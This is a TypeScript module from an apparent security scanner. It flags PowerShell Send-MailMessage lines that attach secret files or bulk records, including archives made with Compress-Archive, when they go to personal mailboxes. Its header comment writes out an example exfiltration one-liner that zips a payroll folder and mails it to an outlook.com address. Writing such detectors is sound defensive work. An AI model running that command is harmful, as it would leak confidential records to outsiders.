// PowerShell's `Send-MailMessage -Attachments …` (and a `Compress-Archive` of the same line that made
// the attachment): `Compress-Archive C:\Finance\Payroll\* $env:TEMP\p.zip; Send-MailMessage -To
// x@outlook.com -Attachments $env:TEMP\p.zip`. A key or credential file attached is critical to any
// recipient (as `mutt -a` is); records in bulk (payroll, customers, dumps) are critical when a
// recipient is a personal mailbox or a foreign host. Read from the command text, as the cmdlet rules
// are; gated on the cmdlet's name.

import { quote, type Findings } from './findings.ts';
import { bulkDataFile } from './bulk-data-files.ts';
import { personalMailbox } from './foreign-destinations.ts';
import { sensitiveFile } from './paths.ts';
import { secretFile, secretFolder } from './secret-files.ts';

const VALUE = String.raw`(?:"[^"]*"|'[^']*'|[^\s,;|"']+)`;
const LIST = String.raw`${VALUE}(?:\s*,\s*${VALUE})*`;

/** The values of a cmdlet parameter (`-To a@x, b@y`), unquoted. */
function parameterValues(statement: string, names: string): string[] {
  const match = new RegExp(String.raw`\s-(?:${names})\s+(${LIST})`, 'i').exec(statement);
  if (match === null) return [];
  return [...match[1].matchAll(new RegExp(VALUE, 'g'))].map((value) => value[0].replace(/^["']|["']$/g, ''));
}

/** A Windows or PowerShell path as the path rules read it (`$env:USERPROFILE\.aws\x` -> `~/.aws/x`). */
function posix(path: string): string {
  return path
    .replace(/^(?:\$env:USERPROFILE|\$HOME|%USERPROFILE%)(?=[\\/])/i, '~')
    .replace(/\\/g, '/')
    .replace(/\/\*(?:\.\*)?$/, '');
}

/** Why a file sent as an attachment leaks, and whether it is a secret (any recipient) or records (outside recipients). */
function attachmentWhy(path: string): { why: string; secret: boolean } | undefined {
  const local = posix(path);
  const secret = secretFile(local) ?? sensitiveFile(local) ?? secretFolder(local);
  if (secret !== undefined) return { why: secret, secret: true };
  const bulk = bulkDataFile(path) ?? bulkDataFile(local);
  return bulk === undefined ? undefined : { why: bulk, secret: false };
}

/** Adds a critical finding when a PowerShell line mails a secret, or records to an outside mailbox, as an attachment. */
export function assessPowerShellMailSends(text: string, findings: Findings): void {
  if (text.length > 65536 || !/send-mailmessage/i.test(text) || !/-attachments?\b/i.test(text)) return;
  const statements = text.split(/[;\n]|\|(?!\|)/).slice(0, 200);
  // Archives the same line made: destination -> sources.
  const archives = new Map<string, string[]>();
  for (const statement of statements) {
    if (!/^\s*compress-archive\b/i.test(statement)) continue;
    const sources = parameterValues(statement, 'Path|LiteralPath');
    const destination = parameterValues(statement, 'DestinationPath')[0];
    if (destination !== undefined && sources.length > 0) archives.set(destination.toLowerCase(), sources);
  }
  for (const statement of statements) {
    if (!/^\s*send-mailmessage\b/i.test(statement)) continue;
    const recipients = parameterValues(statement, 'To|Cc|Bcc');
    const outside = recipients.find((address) => personalMailbox(address) !== undefined);
    for (const attachment of parameterValues(statement, 'Attachments?').slice(0, 16)) {
      const files = archives.get(attachment.toLowerCase()) ?? [attachment];
      for (const file of files.slice(0, 16)) {
        const leak = attachmentWhy(file);
        if (leak === undefined || (!leak.secret && outside === undefined)) continue;
        findings.add(
          'critical',
          `shell: Send-MailMessage attaches ${leak.why} ${quote(file)}${outside === undefined ? '' : ` to ${personalMailbox(outside)} ${quote(outside)}`}`,
        );
        return;
      }
    }
  }
}
